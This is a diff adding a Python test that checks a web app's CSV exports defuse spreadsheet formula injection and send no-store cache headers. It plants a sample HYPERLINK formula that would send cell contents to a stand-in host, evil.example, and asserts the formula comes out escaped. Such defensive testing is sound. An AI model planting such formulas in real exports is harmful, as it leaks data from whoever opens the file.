@@ -71,3 +71,20 @@ def test_csv_export_is_semicolon_separated_utf8_with_bom(admin_client):
     ]
     assert " à " in danone[0][12]
     assert len(rows) == 1 + 6  # 6 establishments, one habilitation each (Paul, DSN)
+
+
+def test_csv_exports_cannot_carry_a_formula_and_stay_out_of_caches(admin_client):
+    with database.connection_context():
+        Portfolio.update(name='=HYPERLINK("http://evil.example/?"&A2;"Voir")').where(
+            Portfolio.name == "CLIENTS PME").execute()
+        pid = Portfolio.get(Portfolio.name_key == "clients pme").id
+    for path in ("/gestion/recapitulatif.csv", f"/gestion/portefeuilles/{pid}/recapitulatif.csv"):
+        response = admin_client.get(path)
+        assert response.headers["Cache-Control"] == "no-store"
+        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
+        cells = [row[0] for row in rows[1:]]
+        assert '\'=HYPERLINK("http://evil.example/?"&A2;"Voir")' in cells
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    for path in ("/gestion/journal.csv", f"/gestion/habilitations/export?portfolio={pid}",
+                 f"/gestion/habilitations/modele?portfolio={pid}", "/gestion/recapitulatif"):
+        assert admin_client.get(path).headers["Cache-Control"] == "no-store", path
